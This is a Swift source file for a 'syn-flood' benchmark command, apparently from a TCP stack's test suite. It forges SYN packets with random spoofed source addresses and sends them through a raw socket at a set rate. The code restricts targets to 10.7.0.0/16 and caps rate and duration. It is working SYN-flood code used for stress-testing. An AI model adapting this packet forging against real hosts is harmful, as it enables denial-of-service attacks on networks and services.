import ArgumentParser
import MartletWire
import Synchronization

#if canImport(Glibc)
  import Glibc
#elseif canImport(Musl)
  import Musl
#endif

#if os(Linux)
  /// An attacker: SYNs at a steady rate from random addresses and ports, through a raw socket.
  struct SynFlood: ParsableCommand {
    static let configuration = CommandConfiguration(
      commandName: "syn-flood", abstract: "Sends SYNs from random addresses of 11.0.0.0/8 to one port.",
      discussion: """
        Run it inside a network namespace of its own; it refuses to send to anything but 10.7.0.0/16. It ends \
        after SECONDS or by SIGTERM. Needs CAP_NET_RAW.
        """)

    @Argument(help: "Address, within 10.7.0.0/16.") var address: String
    @Argument(help: "Port.") var port: UInt16
    @Argument(help: "SYNs a second, at most 1000000.") var rate: Int
    @Argument(help: "Seconds, at most 120.") var seconds: Int

    func validate() throws {
      guard (1...1_000_000).contains(rate) else { throw ValidationError("RATE must be 1 to 1000000") }
      guard (1...120).contains(seconds) else { throw ValidationError("SECONDS must be 1 to 120") }
      guard case .v4(let target)? = IPAddress(address), target.bits >> 16 == 0x0a07 else {
        throw ValidationError("ADDRESS must lie in 10.7.0.0/16")
      }
    }

    func run() throws {
      guard case .v4(let target)? = IPAddress(address) else { return }
      let fd = socket(AF_INET, Int32(SOCK_RAW.rawValue), Int32(IPPROTO_RAW))
      guard fd >= 0 else { throw BenchError("no raw socket: \(String(cString: strerror(errno)))") }
      defer { close(fd) }
      signal(SIGTERM) { _ in isOver.store(true, ordering: .relaxed) }
      signal(SIGINT) { _ in isOver.store(true, ordering: .relaxed) }
      var syn = ForgedSyn(to: target, port: port, seed: Clock.read(CLOCK_REALTIME))
      var destination = sockaddr_in()
      destination.sin_family = sa_family_t(AF_INET)
      destination.sin_addr.s_addr = target.bits.bigEndian
      let watch = Stopwatch()
      let start = Clock.read(CLOCK_MONOTONIC)
      let end = start + UInt64(seconds) * 1_000_000_000
      var (sent, failed) = (0, 0)
      while !isOver.load(ordering: .relaxed) {
        let now = Clock.read(CLOCK_MONOTONIC)
        if now >= end { break }
        // What is due by now, so that a late turn is made up for; not more than a hundredth of a second's.
        let due = Int(Double(now - start) * Double(rate) / 1e9)
        let batch = min(due - sent - failed, rate / 100 + 1)
        if batch < 1 {
          usleep(200)
          continue
        }
        for _ in 0..<batch {
          if syn.send(fd, &destination) { sent += 1 } else { failed += 1 }
        }
        failed += max(0, due - sent - failed)
      }
      let elapsed = watch.stop()
      var line = ResultLine()
      line.add("syns_per_second", Double(sent) / elapsed.wall, 0)
      line.add("sent", sent)
      line.add("not_sent", failed)
      line.add("cpu_share", elapsed.cpu / elapsed.wall)
      line.print()
    }
  }

  /// Set by a signal, whose receiver can reach globals only.
  private let isOver = Atomic<Bool>(false)

  /// A SYN with the options that kernels send, from a new source each time.
  private struct ForgedSyn {
    private var octets = [UInt8](repeating: 0, count: 60)
    /// The sum of all that stays the same.
    private var fixed: UInt32 = 0
    private var random: UInt64

    init(to target: IPv4Address, port: UInt16, seed: UInt64) {
      random = seed | 1
      var tcp = TCPHeader(
        sourcePort: 0, destinationPort: port, seq: SequenceNumber(0), ack: SequenceNumber(0), flags: .syn,
        window: UnscaledWindow(64_240))
      tcp.options.present = [.maximumSegmentSize, .sackPermitted, .timestamps, .windowScale]
      tcp.options.maximumSegmentSize = 1_460
      tcp.options.windowScale = WindowScale(7)
      tcp.options.tsval = 1
      do {
        var elements = octets.mutableSpan
        var out = elements.mutableBytes
        IPv4Header(
          totalCount: 60, timeToLive: 64, proto: .tcp, source: IPv4Address(bits: 0), destination: target
        ).write(into: &out, at: 0)
        tcp.write(into: &out, at: 20)
      }
      var sum = InternetChecksum.pseudoHeader(
        source: .v4(IPv4Address(bits: 0)), destination: .v4(target), proto: .tcp, length: 40)
      sum.add(octets.span.bytes.extracting(20..<60))
      fixed = UInt32(~sum.field)
    }

    mutating func send(_ fd: Int32, _ destination: inout sockaddr_in) -> Bool {
      random ^= random << 13
      random ^= random >> 7
      random ^= random << 17
      store(0x0b00_0000 | UInt32(truncatingIfNeeded: random) & 0xff_ffff, at: 12)
      octets[20] = UInt8(truncatingIfNeeded: random >> 24) | 4
      octets[21] = UInt8(truncatingIfNeeded: random >> 32)
      store(UInt32(truncatingIfNeeded: random >> 32) &* 2_654_435_761, at: 24)
      var sum = fixed
      for i in [12, 14, 20, 24, 26] { sum += UInt32(octets[i]) << 8 | UInt32(octets[i + 1]) }
      sum = (sum & 0xffff) + sum >> 16
      sum = (sum & 0xffff) + sum >> 16
      octets[36] = UInt8(truncatingIfNeeded: ~sum >> 8)
      octets[37] = UInt8(truncatingIfNeeded: ~sum)
      let count = octets.withUnsafeBytes { packet in
        withUnsafePointer(to: &destination) { address in
          address.withMemoryRebound(to: sockaddr.self, capacity: 1) {
            sendto(fd, packet.baseAddress, packet.count, 0, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
          }
        }
      }
      return count == octets.count
    }

    private mutating func store(_ word: UInt32, at place: Int) {
      for i in 0..<4 { octets[place + i] = UInt8(truncatingIfNeeded: word >> UInt32(24 - 8 * i)) }
    }
  }
#endif
